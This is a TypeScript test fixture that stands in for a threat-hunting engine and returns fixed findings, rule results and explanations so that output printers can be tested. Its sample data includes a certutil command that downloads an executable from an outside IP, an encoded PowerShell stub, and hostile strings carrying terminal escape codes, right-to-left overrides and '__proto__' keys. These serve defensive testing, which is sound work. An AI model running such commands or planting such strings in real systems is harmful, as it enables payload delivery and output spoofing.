/** An engine that gives fixed answers, so that the printers can be looked at. */
import type { Finding, RuleResult, TestResult } from '../../src/detect/report.ts'
import { type Explanation, type Harrier, openHarrier, type SearchResult, type StoreReport } from '../../src/harrier.ts'
import type { Diagnostic } from '../../src/text/diagnostic.ts'
import { rootSource } from '../../src/text/source.ts'

/** Which answers: the plain ones, those of a bad day, too much, none at all, or an engine that never comes back. */
export type Mood = 'good' | 'hostile' | 'long' | 'unread' | 'empty' | 'broken' | 'hanging'

export function answering(mood: Mood): Harrier {
  if (mood === 'broken') {
    const fail = async () => {
      throw new Error("the database said: table 'events' is gone")
    }
    const verbs = { search: fail, hunt: fail, explain: fail, explainEvent: fail, test: fail }
    return { ...verbs, rules: fail, lint: fail, format: fail, store: fail, close: async () => {} }
  }
  return {
    search: async ({ spl }) =>
      spl.includes('stat ')
        ? wrongSearch(spl)
        : mood === 'empty'
          ? noRows
          : mood === 'unread'
            ? nothingRead
            : mood === 'hostile'
              ? hostileRows
              : rows,
    async hunt(_options, on) {
      const given =
        mood === 'empty' ? [] : mood === 'hostile' ? [hostileFinding] : mood === 'long' ? [scriptFinding] : findings
      if (mood === 'long')
        for (const line of [1, 2, 3, 4, 5]) on.diagnostic?.(faultOf(line === 4 ? 'error' : 'warning', line))
      const results = mood === 'empty' ? [] : rules
      for (const finding of given) on.finding(finding)
      for (const result of results) on.rule(result)
      if (mood === 'hostile') on.problem?.({ kind: 'bad_record', file: 'a\u001b[31m.log', line: 7, message: 'no end' })
      if (mood === 'hanging') await new Promise(() => {})
      return {
        rules: results.length,
        found: mood === 'empty' ? 0 : 2,
        silent: 0,
        unsupported: mood === 'empty' ? 0 : 1,
        failed: 0,
        files: mood === 'empty' ? 0 : 3,
        events: 2802118,
        bad_records: mood === 'hostile' ? 1 : 0,
        seconds: 6.9,
      }
    },
    explain: async ({ what, data, event }) =>
      what === 'bad'
        ? { ...explanation, rule: null, diagnostics: [unknownStat('stat count')] }
        : data
          ? { ...explanation, data: { ...over, event: event ? trip : null } }
          : explanation,
    async test(_options, on) {
      const given = mood === 'empty' ? [] : mood === 'unread' ? [dataless] : tests
      for (const result of given) on(result)
      const of = (outcome: TestResult['outcome']) => given.filter(result => result.outcome === outcome).length
      return {
        rules: given.length,
        proved: of('proved'),
        not_proved: of('not_proved'),
        untested: of('untested'),
        unsupported: of('unsupported'),
        failed: of('failed'),
        seconds: 1.94,
      }
    },
    // What no engine is needed for is done in earnest.
    explainEvent: async options => (await openHarrier()).explainEvent(options),
    rules: async options => (await openHarrier()).rules(options),
    lint: async options => (await openHarrier()).lint(options),
    format: async options => (await openHarrier()).format(options),
    store: async ({ remove = [], check }) => ({
      ...(mood === 'empty' ? emptyStore : mood === 'hostile' ? hostileStore : store),
      unknown: remove.filter(word => word === 'nothing.evtx'),
      faults: mood === 'hostile' && check ? ["'a.evtx' has 3 events in place of 4"] : [],
    }),
    close: async () => {},
  }
}

const emptyStore: StoreReport = {
  files: [],
  events: 0,
  newest: undefined,
  indexes: [],
  fields: [],
  removed: [],
  unknown: [],
  faults: [],
}

const store: StoreReport = {
  ...emptyStore,
  files: [
    { name: 'dc-01/security.evtx', hash: '0123456789abcdef', bytes: 1_118_208, events: 1_734, badRecords: 0 },
    { name: '-', hash: '', bytes: 0, events: 2, badRecords: 1 },
  ],
  events: 1_736,
  newest: 1_773_715_212.055,
  indexes: ['main'],
  fields: [
    {
      name: 'Account_Name',
      multivalued: true,
      in: [
        { sourcetype: 'WinEventLog', events: 1_734, several: 1_200 },
        { sourcetype: 'XmlWinEventLog', events: 2, several: 0 },
      ],
    },
    { name: 'EventCode', multivalued: false, in: [{ sourcetype: 'WinEventLog', events: 1_734, several: 0 }] },
  ],
}

const hostileStore: StoreReport = {
  ...store,
  files: [{ name: 'a\u001b[31m.evtx', hash: 'ff', bytes: 4, events: 4, badRecords: 0 }],
}

const unknownStat = (text: string): Diagnostic => {
  const start = text.indexOf('stat ')
  return {
    code: 'unknown-command',
    severity: 'error',
    message: "'stat' is no command",
    help: 'stats count by user',
    place: { source: rootSource('<search>', text), span: { start, end: start + 4 } },
  }
}

const base = { problems: [], files: 2, events: 5210, seconds: 0.31, ok: true, diagnostics: [] }

const rows: SearchResult = {
  ...base,
  columns: ['user', 'count', 'hosts'],
  rows: [
    { user: 'alice', count: 121, hosts: ['WS01', 'WS02'] },
    { user: 'svc, "backup"', count: 7, hosts: 'WS01' },
    { user: '岡田', count: 3, hosts: null },
  ],
  total: 3,
  stages: [
    { text: 'EventCode=4688', rows: 5210 },
    { text: 'stats count values(host) as hosts by user', rows: 3, note: 'CommandLine is empty in 38 % of the events' },
  ],
}

const noRows: SearchResult = { ...base, columns: [], rows: [], total: 0, stages: [{ text: 'EventCode=1', rows: 0 }] }

const hostileRows: SearchResult = {
  ...base,
  columns: ['_time', '__proto__', 'text'],
  rows: [
    Object.assign(Object.create(null), {
      _time: 1773713502.875,
      ['__proto__']: 'x',
      text: '\u001b]0;owned\u0007\u202egpj.exe\r\nnext',
    }),
  ],
  total: 40,
  stages: [],
}

const nothingRead: SearchResult = {
  ...noRows,
  files: 0,
  events: 0,
  problems: [{ kind: 'skipped', file: 'photo.png', message: 'it is no log' }],
}

const wrongSearch = (spl: string): SearchResult => ({
  ...noRows,
  stages: [],
  ok: false,
  diagnostics: [unknownStat(spl)],
})

const shell = { id: '5d0c', name: 'WMI Provider Host Starts a Shell', file: 'rules/wmi_shell.yml' }
const encoded = { id: '8a2c', name: 'Encoded Command', file: 'rules/encoded.yml' }
const model = { id: '94c3', name: 'Longer Than Its Model', file: 'rules/model.yml' }

const finding: Finding = {
  type: 'finding',
  rule: shell,
  kind: 'finding',
  time: '2026-03-17T02:11:04.018Z',
  title: 'WmiPrvSE.exe started cmd.exe on srv-files01',
  entity: { field: 'dest', type: 'system', value: 'srv-files01' },
  score: 50,
  severity: 'medium',
  techniques: ['T1047'],
  threats: [{ field: 'process_name', type: 'process_name', value: 'cmd.exe' }],
  row: {
    dest: 'srv-files01',
    user: 'svc-backup',
    process_name: 'cmd.exe',
    process: 'cmd.exe /c certutil -f http://198.51.100.23/t.exe',
  },
  evidence: [{ file: 'srv-files01/sysmon.log', record: 40006 }],
  evidenceOf: 'row',
  drilldowns: [],
}

const later = { time: '2026-03-17T02:15:37.420Z', row: { ...finding.row, process: 'cmd.exe /c t.exe' } }

const findings: readonly Finding[] = [
  // Later first: the printers bring them into order.
  { ...finding, ...later },
  finding,
  { ...finding, kind: 'intermediate_finding', entity: { field: 'user', type: 'user', value: 'svc-backup' } },
  {
    ...finding,
    rule: encoded,
    kind: 'match',
    time: '2026-03-17T02:03:41.733Z',
    title: 'Encoded Command',
    entity: null,
    score: null,
    severity: null,
    techniques: ['T1059.001', 'T1027'],
    threats: [],
    row: { dest: 'ws-041', user: 'mara', process: 'powershell.exe -enc SQBu' },
  },
]

const hostileFinding: Finding = {
  ...finding,
  title: 'a\tb',
  row: { dest: '\u001b[2Jhost', user: 'ü\u202e', process: 'cmd\n/c "x"\u0000' },
}

const scriptFinding: Finding = {
  ...finding,
  time: '2026-03-17T02:11:04.018765Z',
  row: { dest: 'srv-files01', ScriptBlockText: 'x'.repeat(1500) },
  threats: [],
}

const faultOf = (severity: Diagnostic['severity'], line: number): Diagnostic => ({
  code: 'odd',
  severity,
  message: `line ${line} is odd`,
  place: { source: rootSource('rules/odd.yml', 'a\nb\nc\nd\ne'), span: { start: 2 * line - 2, end: 2 * line - 1 } },
})

const result = (
  rule: typeof shell,
  outcome: RuleResult['outcome'],
  diagnostics: readonly Diagnostic[] = [],
): RuleResult => ({
  type: 'rule',
  ...rule,
  outcome,
  rows: 2,
  events: 4,
  ms: 12,
  diagnostics,
})

const apply: Diagnostic = {
  code: 'unsupported-command',
  severity: 'error',
  message: "'apply' wants a trained model",
  place: { source: rootSource('rules/model.yml', 'search: x\n| apply m'), span: { start: 12, end: 17 } },
}

const rules: readonly RuleResult[] = [
  result(shell, 'found'),
  result(encoded, 'found'),
  result(model, 'unsupported', [apply]),
]

const test = (rule: typeof shell, outcome: TestResult['outcome'], more: Partial<TestResult> = {}): TestResult => ({
  type: 'test',
  rule,
  test: 'True Positive Test',
  outcome,
  rows: 1,
  expected: 'at least 1 row',
  reason: null,
  diagnostics: [],
  ms: 4,
  ...more,
})

const tests: readonly TestResult[] = [
  test(shell, 'proved'),
  test(encoded, 'not_proved', { rows: 0, reason: 'stage 3 drops all 2 rows: regex process, 100 %' }),
  test(model, 'unsupported', { diagnostics: [apply] }),
  test({ id: 'u', name: 'Untested', file: 'rules/untested.yml' }, 'untested', { test: '', rows: 0, expected: '' }),
]

const dataless = test(shell, 'untested', { rows: 0, reason: "no data: 'T1047.log' not found" })

const explanation: Explanation = {
  rule: {
    ...shell,
    vendor: 'splunk',
    language: 'spl',
    version: 3,
    status: 'production',
    deprecated: false,
    type: 'TTP',
    description: 'The WMI provider host is the parent of a shell.',
    author: 'Harrier',
    references: [],
    howToImplement: undefined,
    knownFalsePositives: undefined,
  },
  stages: [
    {
      command: 'search',
      text: 'EventCode=1\n  ParentImage="*\\\\wmiprvse.exe"',
      span: { start: 0, end: 10 },
      predicates: [
        { field: 'EventCode', kind: 'eq', values: ['1'], negated: false },
        { field: 'User', kind: 'in', values: ['SYSTEM', 'a\u001b'], negated: true },
        { field: 'z', kind: 'exists', values: [], negated: false },
        'len(x) > 3',
        { odd: true },
      ],
    },
    { command: 'stats', text: '| stats count by dest', span: { start: 11, end: 30 }, predicates: [] },
  ],
  indicators: [
    { field: 'EventCode', kind: 'eq', value: '1', exclude: false, selector: true, others: 12 },
    { field: 'ParentImage', kind: 'endswith', value: '\\wmiprvse.exe', exclude: false, selector: false, others: 0 },
    { field: 'User', kind: 'eq', value: 'SYSTEM', exclude: true, selector: false, others: 3 },
  ],
  events: [{ provider: 'Sysmon', event: '1', title: 'Process creation' }],
  techniques: [{ id: 'T1047', name: 'Windows Management Instrumentation', tactics: ['Execution'] }],
  needs: { fields: ['EventCode', 'ParentImage', 'dest'], datamodels: [], macros: [], lookups: [] },
  fieldsOut: ['dest', 'count'],
  plan: 'filter …',
  sql: 'SELECT 1',
  diagnostics: [],
}

/** The explanation over logs: the first stage lets some through, the second none. */
const over: NonNullable<Explanation['data']> = {
  files: 3,
  events: 2_802_118,
  outcome: 'silent',
  stages: [
    { in: 2_802_118, out: 12 },
    { in: 12, out: 0 },
  ],
  drops: 1,
  event: null,
}

const trip: NonNullable<NonNullable<Explanation['data']>['event']> = {
  file: 'srv-files01/sysmon.log',
  record: 40_006,
  time: 1_773_713_464.018,
  host: 'srv-files01',
  stages: [
    {
      event: 'drops',
      tests: [
        { text: 'EventCode=1', field: 'EventCode', value: '1', outcome: 'holds' },
        {
          text: String.raw`ParentImage="*\\wmiprvse.exe"`,
          field: 'ParentImage',
          value: String.raw`C:\Windows\System32\services.exe`,
          outcome: 'fails',
        },
        { text: 'NOT User="SYSTEM"', field: 'User', value: null, outcome: 'absent' },
      ],
    },
    { event: 'not reached', tests: [] },
  ],
}
